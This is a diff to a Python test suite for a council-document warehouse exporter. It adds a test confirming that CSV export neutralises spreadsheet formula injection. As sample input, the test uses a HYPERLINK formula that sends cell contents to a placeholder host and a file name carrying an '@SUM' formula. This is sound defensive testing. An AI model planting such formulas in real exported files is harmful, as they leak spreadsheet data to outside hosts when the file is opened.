@@ -54,7 +54,35 @@ def test_every_exported_fact_and_document_says_whether_it_is_fictional(corpus_db
     export_warehouse(real_db, tmp_path / "real", "csv")
     samples = pl.read_csv(tmp_path / "samples" / "facts.csv")
     assert samples.height > 200 and samples["fictional"].all()
+    # codes come with their plain-English labels
+    dcs = samples.filter(pl.col("role_category") == "dcs")
+    assert dcs.height and set(dcs["role_category_label"]) == {"Director of Children's Services"}
+    assert set(samples.filter(pl.col("kind") == "shared_post")["kind_label"]) == {"Shared post"}
     assert pl.read_csv(tmp_path / "samples" / "documents.csv")["fictional"].all()
     real = pl.read_csv(tmp_path / "real" / "documents.csv", infer_schema_length=None)
     assert not real["fictional"].any() and real["source_url"].str.starts_with("http").all()
     assert not pl.read_csv(tmp_path / "real" / "facts.csv", infer_schema_length=None)["fictional"].any()
+
+
+def test_csv_export_never_runs_a_document_s_text_as_a_formula(tmp_path: Path):
+    import csv as csv_module
+
+    from councildocs.warehouse.privacy import FORMULA_TRIGGERS
+    from councildocs.warehouse.store import Warehouse
+    from councildocs.warehouse.testing import ok_result, salary_fact
+
+    text = '=HYPERLINK("http://x.example/?"&A1,"Open") pays £120,000.'
+    db = tmp_path / "w.duckdb"
+    with Warehouse(db) as wh:
+        wh.store(ok_result("@SUM(A1).txt", text, [salary_fact(text, "£120,000", ["E09000032"], 120000, 120000)],
+                           [("E09000032", "Wandsworth")]))
+    export_warehouse(db, tmp_path / "csv", "csv")
+    export_warehouse(db, tmp_path / "jsonl", "jsonl")
+    for table in ("documents", "facts"):
+        with (tmp_path / "csv" / f"{table}.csv").open(encoding="utf-8", newline="") as fh:
+            cells = [c for row in csv_module.reader(fh) for c in row]
+        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], table
+    documents = (tmp_path / "csv" / "documents.csv").read_text(encoding="utf-8")
+    assert "'@SUM(A1).txt" in documents and "'=HYPERLINK(" in documents
+    # JSON Lines keeps the exact text
+    assert json.loads((tmp_path / "jsonl" / "documents.jsonl").read_text(encoding="utf-8"))["text"] == text
